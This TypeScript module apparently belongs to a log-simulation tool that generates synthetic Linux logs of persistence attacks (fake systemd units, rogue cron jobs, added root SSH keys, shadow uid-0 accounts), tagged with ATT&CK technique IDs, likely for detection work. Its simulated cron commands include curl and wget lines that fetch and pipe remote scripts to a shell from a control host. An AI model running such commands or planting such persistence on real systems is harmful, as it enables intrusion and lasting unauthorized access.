import type {Host} from '../host.ts';
import {cronJob} from '../ordinary/clockwork.ts';
import {logIn, logOut, sudo} from '../ordinary/people.ts';
import type {Script} from '../simulation.ts';
import type {Attack, Intruder} from './attack.ts';

/** A unit with a name that sounds right, started again each time it dies. */
function* newUnit(host: Host, {victim, control}: Intruder): Script {
  const name = host.random.pick(['dbus-helperd', 'systemd-netmon', 'snapd-cache', 'udev-monitor', 'kworkerd']);
  if (host.chance(0.4)) yield* sudo(host, victim.name, `/usr/bin/systemctl enable --now ${name}.service`, 'pts/2', 1);
  host.systemd('Reloading.');
  host.systemd(`Started ${name}.service - ${name}.`);
  host.audit(
    'SERVICE_START',
    `pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=${name} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`,
  );
  for (let times = host.random.between(0, 4); times > 0; times--) {
    yield 60 + host.random.exponential(300);
    host.systemd(`${name}.service: Main process exited, code=exited, status=1/FAILURE`);
    host.systemd(`${name}.service: Scheduled restart job, restart counter is at ${times}.`);
    host.systemd(`Started ${name}.service - ${name}.`);
    host.flow({service: 'https', to: control, toPort: 443, out: 900, in: 700, lasts: 1});
  }
}

/** A job in the crontab of an account that never had one; it fetches its orders. */
function* newCronJob(host: Host, {control, victim}: Intruder): Script {
  const user = host.chance(0.5) ? victim.name : 'www-data';
  if (host.chance(0.7)) host.log('crontab', `(${user}) REPLACE (${user})`, host.newPid());
  yield 30;
  host.log('cron', `(${user}) RELOAD (crontabs/${user})`);
  const command = host.random.pick([
    `curl -fsSL http://${control}/i.sh | sh`,
    '/tmp/.X11-unix/.rsync/upd >/dev/null 2>&1',
    '/dev/shm/.cache/run',
    `wget -q -O - http://${control}/c.sh | bash`,
  ]);
  for (let times = host.random.between(4, 14); times > 0; times--) {
    yield 600 - ((host.now / 1e6) % 600);
    host.start(cronJob(host, user, command));
    host.flow({service: 'http', to: control, toPort: 80, out: 260, in: 5_200, lasts: 0.5});
  }
}

/** A key where none was, and a login with it. */
function* newKey(host: Host, {victim, address, key}: Intruder): Script {
  if (host.chance(0.5)) yield* sudo(host, victim.name, '/usr/bin/tee -a /root/.ssh/authorized_keys', 'pts/2', 1);
  host.audit(
    'SYSCALL',
    `arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c items=2 ppid=1 pid=${host.newPid()} auid=${victim.uid} uid=0 gid=0 euid=0 comm="tee" exe="/usr/bin/tee" key="ssh_keys"`,
  );
  yield 240;
  const root = {...victim, name: 'root', uid: 0};
  const login = yield* logIn(host, root, address, {byPassword: false, lasts: 400, key});
  yield 400;
  logOut(host, root, address, login);
}

/** A second root. */
function* shadowAccount(host: Host): Script {
  const name = host.random.pick(['sysadm', 'ftp2', 'support', 'nobody1', 'postgresql']);
  const uid = host.chance(0.7) ? 0 : 1_099;
  host.log(
    'useradd',
    `new user: name=${name}, UID=${uid}, GID=0, home=/var/tmp/.${name}, shell=/bin/bash, from=none`,
    host.newPid(),
  );
  host.audit(
    'ADD_USER',
    `pid=${host.newPid()} uid=0 auid=0 ses=9 msg='op=add-user acct="${name}" exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success'`,
  );
  yield 4;
  host.log('chpasswd', `pam_unix(chpasswd:chauthtok): password changed for ${name}`, host.newPid());
  yield 6;
  if (uid !== 0) host.log('usermod', `add '${name}' to group 'sudo'`, host.newPid());
  yield 30;
}

export const persistenceAttacks: readonly Attack[] = [
  {name: 'new-unit', technique: 'T1543.002', stage: 2, effects: [], run: newUnit},
  {name: 'new-cron-job', technique: 'T1053.003', stage: 2, effects: [], run: newCronJob},
  {name: 'new-key', technique: 'T1098.004', stage: 2, effects: [], run: newKey},
  {name: 'shadow-account', technique: 'T1136.001', stage: 2, effects: [], run: shadowAccount},
];
